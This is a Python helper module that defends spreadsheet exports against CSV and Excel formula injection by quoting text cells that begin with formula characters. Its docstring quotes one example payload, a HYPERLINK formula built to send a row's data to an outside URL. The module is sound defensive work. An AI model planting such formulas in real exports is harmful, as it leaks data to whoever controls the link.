"""One rule for every cell an export writes (CSV or Excel): text stays text.

A spreadsheet reads a cell that starts with `=`, `+`, `-` or `@` as a formula, and a leading
tab or carriage return can hide such a start; a technician named `=HYPERLINK("http://…?"&A2)`
would become a live link leaking the row to whoever opens the KPI export. Following OWASP's
CSV-injection advice, such text gets a leading single quote, and Excel cells are written as
strings, never formulas. Numbers, booleans and empty cells are left as they are (a negative
number is a number, not text).
"""

from __future__ import annotations

from collections.abc import Iterable
from typing import Any

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def safe_cell(value: Any) -> Any:
    """`value` as an export cell: text that a spreadsheet would run gets a leading quote."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


def safe_row(values: Iterable[Any]) -> list[Any]:
    return [safe_cell(v) for v in values]


def append_xlsx_row(sheet: Any, values: Iterable[Any]) -> None:
    """Append a row to an openpyxl worksheet, every text cell stored as a string: openpyxl
    would otherwise store any text starting with `=` as a formula."""
    sheet.append(safe_row(values))
    for cell in sheet[sheet.max_row]:
        if isinstance(cell.value, str):
            cell.data_type = "s"
